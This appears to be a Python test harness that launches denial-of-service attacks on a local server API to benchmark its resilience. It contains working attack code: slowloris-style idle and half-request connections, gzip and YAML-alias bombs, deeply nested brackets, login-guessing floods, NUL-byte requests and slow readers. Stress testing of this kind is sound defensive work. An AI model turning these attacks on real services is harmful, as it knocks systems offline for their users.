"""Attackers of a master, each a process of its own at the lowest priority, as on another host: on loopback they would else
take the processor, not the master's patience. Where the kernel shares processors between sessions (autogroup), a process's own
priority counts only within its session, so an attacker has a session of its own, at the lowest priority too.

An attack is a function (port, token, ready) that sets `ready` once its sockets do what they are for, and then goes on until
its process is ended.
"""
import contextlib
import ctypes
import gzip
import itertools
import json
import multiprocessing
import os
import select
import signal
import socket
import threading
import time

IDLE, IDLE_PROCESSES = int(os.environ.get("DET_BENCH_IDLE", "20000")), 2
MADE_UP = "Bearer " + "0" * 64
PR_SET_PDEATHSIG = 1


def head(method, path, length, auth, more=""):
    return (f"{method} {path} HTTP/1.1\r\nHost: x\r\nAuthorization: {auth}\r\n{more}Content-Length: {length}\r\n\r\n").encode()


def connect(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=20)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def again(port, ready, one, clients):
    """So many threads, each doing one(socket) on a new connection again and again."""
    def loop():
        while True:
            try:
                with connect(port) as s:
                    one(s)
            except OSError:
                time.sleep(0.01)
            ready.set()
    threads = [threading.Thread(target=loop, daemon=True) for _ in range(clients)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


def large_bodies(port, token, ready):
    """Made-up tokens, each with a body of 64 MB."""
    piece = b"x" * (1 << 20)

    def one(s):
        s.sendall(head("POST", "/api/v1/experiments", 64 << 20, MADE_UP))
        for _ in range(64):
            s.sendall(piece)
            ready.set()
        s.recv(1000)
    again(port, ready, one, 64)


def guessers(port, token, ready):
    """Passwords of names that are not there, a new one each time."""
    number = itertools.count()

    def one(s):
        body = json.dumps({"username": f"n{next(number)}", "password": "x" * 128, "isHashed": True}).encode()
        s.sendall(head("POST", "/api/v1/auth/login", len(body), MADE_UP, "Connection: close\r\n") + body)
        while s.recv(1000):
            pass
    again(port, ready, one, 200)


def refused_tokens(port, token, ready):
    """Made-up tokens on kept connections, without bodies."""
    def one(s):
        for _ in range(1000):
            s.sendall(head("GET", "/api/v1/experiments", 0, MADE_UP))
            s.recv(4000)
    again(port, ready, one, 32)


def nul(port, token, ready):
    """NUL bytes in the path, in a header and in a body, and half a character."""
    body = b'{"user":{"username":"a\\u0000b"},"password":"\xff\x00"}'
    requests = (b"GET /api/v1/\0experiments HTTP/1.1\r\nHost: x\r\n\r\n", b"GET /api/v1/me%00 HTTP/1.1\r\nHost: x\r\nX: \0\r\n\r\n",
                head("POST", "/api/v1/users", len(body), "Bearer " + token) + body)
    turn = itertools.count()

    def one(s):
        s.sendall(requests[next(turn) % len(requests)])
        s.recv(4000)
    again(port, ready, one, 32)


def slow_readers(port, token, ready):
    """Somebody who may ask, asks for the longest answers and does not read them."""
    def one(s):
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        s.sendall(head("GET", "/api/v1/master/logs?follow=true", 0, "Bearer " + token))
        s.sendall(head("GET", "/api/v1/experiments?limit=1000", 0, "Bearer " + token) * 20)
        ready.set()
        time.sleep(600)
    again(port, ready, one, 64)


def bombs(port, token, ready):
    """Small texts that stand for much: a zipped body, aliases of aliases in YAML, brackets in brackets, a list of millions."""
    aliases = "a: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"b{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12))
    create = lambda config, files: json.dumps({"config": config, "modelDefinition": files, "activate": False}).encode()
    bodies = [(gzip.compress(b"0" * (64 << 20)), "Content-Encoding: gzip\r\n"), (create(aliases, []), ""), (create("a: " + "[" * 500000, []), ""),
              (b"[" * 1000000, ""), (create("a: 1", [0] * 1000000), "")]
    turn = itertools.count()

    def one(s):
        body, more = bodies[next(turn) % len(bodies)]
        s.sendall(head("POST", "/api/v1/experiments", len(body), "Bearer " + token, more) + body)
        s.recv(4000)
    again(port, ready, one, 4)


def hold(port, n, first, ready):
    """n sockets that stay open and say `first` only; who is cut off comes again."""
    watch, socks = select.epoll(), {}
    while True:
        for _ in range(min(500, n - len(socks))):
            try:
                s = connect(port)
                s.sendall(first)
                s.setblocking(False)
            except OSError:
                break
            socks[s.fileno()] = s
            watch.register(s, select.EPOLLIN | select.EPOLLHUP)
        if len(socks) >= n * 9 // 10:
            ready.set()
        for fd, _ in watch.poll(0.01):
            watch.unregister(fd)
            socks.pop(fd).close()


def idle(port, token, ready):
    """Sockets that say nothing."""
    hold(port, IDLE // IDLE_PROCESSES, b"", ready)


def half(port, token, ready):
    """Sockets that say half a request."""
    hold(port, IDLE // IDLE_PROCESSES, b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\n", ready)


def made_up(port, token, ready):
    """10,000 made-up tokens, each with the beginning of a large body."""
    hold(port, 10000, head("POST", "/api/v1/experiments", 64 << 20, MADE_UP) + b"x" * 4000, ready)


class Attack:
    """with Attack(port, token, guessers): ..."""
    def __init__(self, port, token, what):
        self.ready = [multiprocessing.Event() for _ in range(IDLE_PROCESSES if what in (idle, half) else 1)]
        self.procs = [multiprocessing.Process(target=self.run, args=(what, port, token, e), daemon=True) for e in self.ready]

    @staticmethod
    def run(what, port, token, ready):
        ctypes.CDLL(None).prctl(PR_SET_PDEATHSIG, signal.SIGKILL)  # a session of its own outlives a Ctrl-C
        os.nice(19)
        os.setsid()
        with contextlib.suppress(OSError), open("/proc/self/autogroup", "w") as f:
            f.write("19")
        what(port, token, ready)

    def __enter__(self):
        for p in self.procs:
            p.start()
        if not all([e.wait(60) for e in self.ready]):
            self.__exit__()
            raise SystemExit("an attack did not begin within a minute: nothing was measured")
        return self

    def __exit__(self, *_):
        for p in self.procs:
            p.kill()
            p.join()
